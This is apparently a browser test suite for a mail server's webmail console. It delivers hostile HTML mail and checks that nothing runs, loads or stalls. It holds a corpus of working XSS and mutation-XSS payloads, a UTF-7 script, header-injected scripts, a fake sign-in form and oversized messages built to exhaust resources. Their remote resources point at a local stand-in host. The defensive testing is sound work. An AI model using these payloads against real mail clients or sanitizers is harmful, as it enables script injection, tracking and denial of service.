"""Hostile mail in a real browser: nothing of it runs, nothing is fetched, nothing leaves its frame, and neither the
page nor the server is held up by it. The judge is the browser's own parser, not a list of attacks.
"""

from __future__ import annotations

import asyncio
import re
import smtplib
import threading
import time
from base64 import b64decode, encodebytes
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from random import Random

import pytest
from playwright.sync_api import Frame
from tests.browser.harness import Stage, Visit

from postroad.app.build import Node
from postroad.content.html_rules import ELEMENTS

SECONDS = 8.0  # for any page of any message, on a busy machine
LAG = 2.0  # seconds for which the server's loop may be held up; without other load it is a twentieth of one
FRAME = ("HTML", "HEAD", "BODY", "META", "TITLE", "STYLE")
# Every element with its attributes, as the browser's parser has made them.
ELEMENTS_OF = """() => [...document.querySelectorAll("*")].map((one) =>
  [one.nodeName, one.namespaceURI, Object.fromEntries([...one.attributes].map((each) => [each.name, each.value]))])"""

ACTIVE = """<!doctype html><html><head><base href="http://ELSEWHERE/"><title>x</title>
<meta http-equiv="refresh" content="0;url=http://ELSEWHERE/refresh"><link rel="stylesheet" href="http://ELSEWHERE/css">
<link rel=preload as=image href="//ELSEWHERE/preload"><link rel=prefetch href="http://ELSEWHERE/prefetch">
<link rel="dns-prefetch" href="//ELSEWHERE"><link rel=icon href="http://ELSEWHERE/icon">
<style>@import "http://ELSEWHERE/import";@font-face{font-family:f;src:url(http://ELSEWHERE/font)}
body{background:url(http://ELSEWHERE/bg);font-family:f}a::after{content:url(http://ELSEWHERE/after)}</style>
<script>document.title="RUN";top.location="http://ELSEWHERE/top";fetch("http://ELSEWHERE/fetch")</script>
<script src="http://ELSEWHERE/script"></script></head>
<body onload="document.title='RUN'" onpageshow="alert(1)" background="http://ELSEWHERE/back">
<img src="http://ELSEWHERE/img" onerror="alert(1)"><img src=x onerror=alert(1)><img srcset="http://ELSEWHERE/set 2x">
<picture><source srcset="http://ELSEWHERE/source"><img src="//ELSEWHERE/picture"></picture><image href="http://ELSEWHERE/i">
<input type=image src="http://ELSEWHERE/input"><video poster="http://ELSEWHERE/poster" autoplay src="http://ELSEWHERE/v"></video>
<audio src="http://ELSEWHERE/audio" autoplay></audio>
<track src="http://ELSEWHERE/track"><bgsound src="http://ELSEWHERE/bgs">
<iframe src="http://ELSEWHERE/frame" srcdoc="<script>parent.document.title='RUN'</script>"></iframe>
<object data="http://ELSEWHERE/object"></object><embed src="http://ELSEWHERE/embed">
<applet code="http://ELSEWHERE/a"></applet>
<svg onload="alert(1)"><script>alert(1)</script><image href="http://ELSEWHERE/svg"/><use href="http://ELSEWHERE/use#x"/>
<style>*{background:url(http://ELSEWHERE/svgstyle)}</style>
<animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
<form action="http://ELSEWHERE/form" id=f><input name=password autofocus onfocus="alert(1)">
<button>Sign in</button></form>
<button form=f formaction="http://ELSEWHERE/fa">x</button><select onfocus=alert(1) autofocus><option>1</select>
<div style="position:fixed;inset:0;z-index:99999;background:url(http://ELSEWHERE/style)">over everything</div>
<div style="background-image:\\75rl(http://ELSEWHERE/escape);list-style:url(http://ELSEWHERE/list);
content:url(http://ELSEWHERE/c)">x</div>
<div style="behavior:url(http://ELSEWHERE/b);-moz-binding:url(http://ELSEWHERE/m);
cursor:url(http://ELSEWHERE/cur),auto">x</div>
<p style="border-image:url(http://ELSEWHERE/bi);mask:url(http://ELSEWHERE/mask);
filter:url(http://ELSEWHERE/filter#x)">x</p>
<a href="javascript:document.title='RUN'" ping="http://ELSEWHERE/ping" id=a>x</a>
<a href="data:text/html,<script>alert(1)</script>">y</a>
<table background="http://ELSEWHERE/table"><tr><td background="http://ELSEWHERE/td">x</table>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)><summary>x</summary></details><dialog open onclose=alert(1)>x</dialog>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src="http://ELSEWHERE/t"></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><p title="-->"><!--><img src=x onerror=alert(1)>--></p>
<plaintext><img src="http://ELSEWHERE/plain">"""


PIECES = (
    "<", ">", "</", "/>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "'", '"', "=", " ", "\n", "&lt;", "&#x6a;",
    "<p title='", "text",
    "</style>", "</script>", "</svg>", "</math>", "</title>", "</table>", "<foreignObject>", "<mtext>",
    "<annotation-xml encoding=text/html>",
    "<select>", "<title>", "<textarea>", "<frameset>", "</p>", "</br>", "</form>", "<td>", "<b>", "</b>",
    "<a href=//x>", "</a>",
)  # fmt: skip


class Elsewhere:
    """A server that nobody may ask; remembers who did."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                return

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.name = f"127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    made = Elsewhere()
    yield made
    made.stop()


def arrive(stage: Stage, content: bytes) -> str:
    """A stranger's server sends `content` to somebody here; the path of its page."""
    endpoint = stage.node.endpoints["mx"][0]
    lines = content.replace(b"\r\n", b"\n").replace(b"\r", b"").replace(b"\n", b"\r\n")
    with smtplib.SMTP(endpoint.host, endpoint.port, "far.test", timeout=30) as client:
        client.ehlo()
        client.mail("stranger@far.test")
        client.rcpt("alice@one.test")
        code, answer = client.data(lines)
    assert code == 250, answer
    return f"/console/messages/{answer.split()[-1].decode()}"


def html_mail(html: str | bytes, more: bytes = b"") -> bytes:
    body = html.encode() if isinstance(html, str) else html
    return b"Subject: hostile\nContent-Type: text/html; charset=utf-8\n" + more + b"\n" + body


def soup(seed: int) -> str:
    """Pieces of markup in an order that no author would think of."""
    random = Random(seed)
    pieces = [*PIECES, *re.findall(r"<[^>]+>", ACTIVE)]
    return "".join(random.choice(pieces) for _ in range(400))


def judge(frame: Frame) -> None:
    """Nothing in this document runs, fetches, submits or looks like our page."""
    for name, space, attributes in frame.evaluate(ELEMENTS_OF):
        assert space == "http://www.w3.org/1999/xhtml", (name, space)
        assert name.lower() in ELEMENTS or name in FRAME, name
        for key, value in attributes.items():
            where = f"<{name.lower()} {key}={value[:60]!r}>"
            assert not key.startswith("on"), where
            assert key not in ("action", "formaction", "srcset", "srcdoc", "background", "ping", "poster", "data"), (
                where
            )
            assert key != "src" or value.startswith("data:image/"), where
            assert key != "href" or value.startswith(("http://", "https://", "mailto:", "tel:")), where
            assert key != "style" or "url" not in value.lower() or "(" not in value, where


def look_at_all(visit: Visit, path: str) -> None:
    """The page with each view of the message, then its HTML by itself: harmless, and in bounded time."""
    page = visit.page
    with within(SECONDS, path):
        visit.open(path)
    title, views = page.title(), [each.get_attribute("id") for each in page.locator("#message_content nav a").all()]
    if "view-html" in views:
        frame = page.wait_for_selector("iframe").content_frame()
        frame.wait_for_load_state("load")
        judge(frame)
    for view in views:
        with within(SECONDS, f"{path} {view}"):
            page.locator(f"#{view}").click()
            visit.settle()
    assert page.title() == title
    if "view-html" in views:
        look_at_html(visit, path)


def look_at_html(visit: Visit, path: str) -> None:
    """The message's HTML by itself."""
    with within(SECONDS, f"{path}/html"):
        visit.page.goto(f"{visit.origin}{path}/html", wait_until="load")
    judge(visit.page.main_frame)
    assert visit.page.title() == "A message's HTML, made safe"


@contextmanager
def within(seconds: float, what: str) -> Iterator[None]:
    before = time.monotonic()
    yield
    took = time.monotonic() - before
    assert took < seconds, f"{what} took {took:.1f} s"


@contextmanager
def undisturbed(stage: Stage) -> Iterator[None]:
    """The server goes on with everything else meanwhile."""
    lags: list[float] = []
    done = threading.Event()

    async def watch(_: Node) -> None:
        while not done.is_set():
            before = time.monotonic()
            await asyncio.sleep(0.02)
            lags.append(time.monotonic() - before - 0.02)

    watcher = threading.Thread(target=lambda: stage.ask(watch), daemon=True)
    watcher.start()
    try:
        yield
    finally:
        done.set()
        watcher.join()
    assert max(lags) < LAG, f"the loop stood still for {max(lags):.2f} s"


@pytest.fixture
def visit(visit: Visit) -> Visit:
    """Whatever asks a question (alert, confirm, leaving) has run: that is a trouble too."""
    visit.page.on("dialog", lambda dialog: (visit.trouble(f"a dialog: {dialog.message}"), dialog.dismiss()))
    visit.page.on("popup", lambda popup: visit.trouble(f"a window opened: {popup.url}"))
    return visit


SAMPLES: dict[str, Callable[[], bytes]] = {
    "active": lambda: html_mail(ACTIVE),
    "utf-7": lambda: b"Subject: x\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf-16": lambda: (
        b"Subject: x\nContent-Type: text/html; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n"
        + encodebytes(ACTIVE.encode("utf-16-le"))
    ),
    "header": lambda: (
        b"Subject: <script>alert(1)</script><img src=http://ELSEWHERE/subject>\n"
        b'From: "</title><script>alert(1)</script>" <x@far.test>\n'
        b'X-<img>: y\nMessage-ID: <"><script>alert(1)</script>@x>\n'
        b"Content-Type: multipart/mixed; boundary=b\n\n--b\n\n<script>alert(1)</script>http://ELSEWHERE/text\n--b\n"
        b'Content-Type: image/svg+xml; name="<img src=x onerror=alert(1)>.svg"\n\n<svg onload=alert(1)></svg>\n--b\n'
        b"Content-Type: image/png\nContent-Disposition: attachment; filename=a.png\n\n"
        b"<script>alert(1)</script>\n--b--\n"
    ),
    "related": lambda: (
        b"Subject: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        b'<img src="cid:a"><img src="cid:b"><img src="cid:c"><a href="cid:a">x</a>\n--b\nContent-Type: image/png\n'
        b"Content-ID: <a>\n\n<svg onload=alert(1)>\n--b\nContent-Type: text/html\nContent-ID: <b>\n\n<script>alert(1)"
        b"</script>\n--b\nContent-Type: image/gif\nContent-ID: <c>\n\n"
        b"GIF89a\1\2\1\2/*<script>alert(1)</script>*/\n--b--\n"
    ),
}


@pytest.mark.parametrize("name", ["active", "header"])
def test_nothing_runs_and_nothing_is_fetched(visit: Visit, stage: Stage, elsewhere: Elsewhere, name: str) -> None:
    look_at_all(visit, arrive(stage, SAMPLES[name]().replace(b"ELSEWHERE", elsewhere.name.encode())))
    assert elsewhere.asked == []


def test_html_opened_by_itself_is_as_safe(visit: Visit, stage: Stage, elsewhere: Elsewhere) -> None:
    others = [make() for name, make in SAMPLES.items() if name not in ("active", "header")]
    for content in (*others, *(html_mail(soup(seed)) for seed in range(8))):
        look_at_html(visit, arrive(stage, content.replace(b"ELSEWHERE", elsewhere.name.encode())))
    assert elsewhere.asked == []


def many_parts(count: int) -> bytes:
    head = b"Subject: parts\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>x\n"
    return head + b"--b\nContent-Type: image/png; name=x.png\n\nx\n" * count + b"--b--\n"


# What is sent, and what the page says of it. What each costs the processor is measured in tests/unit/content.
GIANTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "table": (lambda: html_mail("<table>" + ("<tr>" + "<td>x\n" * 20) * 5000), "the rest was left out"),
    "nesting": (lambda: html_mail("<div style='padding:1px'>\n" * 50_000 + "deep"), "flattened"),
    "parts": (lambda: many_parts(10_000), "200 of them are listed"),
    "field": (lambda: b"Subject: " + b"word\n " * 10_000 + b"\n\nthe end", "the end"),
    "broken": (
        lambda: (
            b'Content-Type: multipart/alternative; boundary="b\n\n--b\nContent-Type: text/html; charset=\xff\n'
            b"Content-Transfer-Encoding: base64\n\n" + b"=?==\xff" * 5000 + b"\n--b\nContent-Type: /\n\n\x01\n--b"
        ),
        "The message itself",
    ),
}


@pytest.mark.parametrize("name", GIANTS)
def test_neither_page_nor_server_is_held_up(visit: Visit, stage: Stage, name: str) -> None:
    content, said = GIANTS[name]
    path = arrive(stage, content())
    with undisturbed(stage), within(SECONDS, path):
        page = visit.open(path).page
        if page.locator("#view-parts").count():
            page.locator("#view-parts").click()
            visit.settle()
    assert said in page.content() or said in page.frames[-1].content()


def test_pictures_of_the_message_are_seen(visit: Visit, stage: Stage) -> None:
    picture = b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
    content = (
        b"Subject: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        b"<img src=cid:a>\n--b\n"
        b"Content-Type: image/png\nContent-ID: <a>\nContent-Transfer-Encoding: base64\n\n"
        + encodebytes(picture)
        + b"--b--\n"
    )
    path = arrive(stage, content)
    page = visit.page
    page.goto(f"{visit.origin}{path}/html")
    assert page.evaluate("() => document.images[0].complete && document.images[0].naturalWidth === 1")
    visit.open(path)
    page.locator("#view-parts").click()
    visit.settle()
    assert page.evaluate("() => document.querySelector('.file img').naturalWidth === 1")
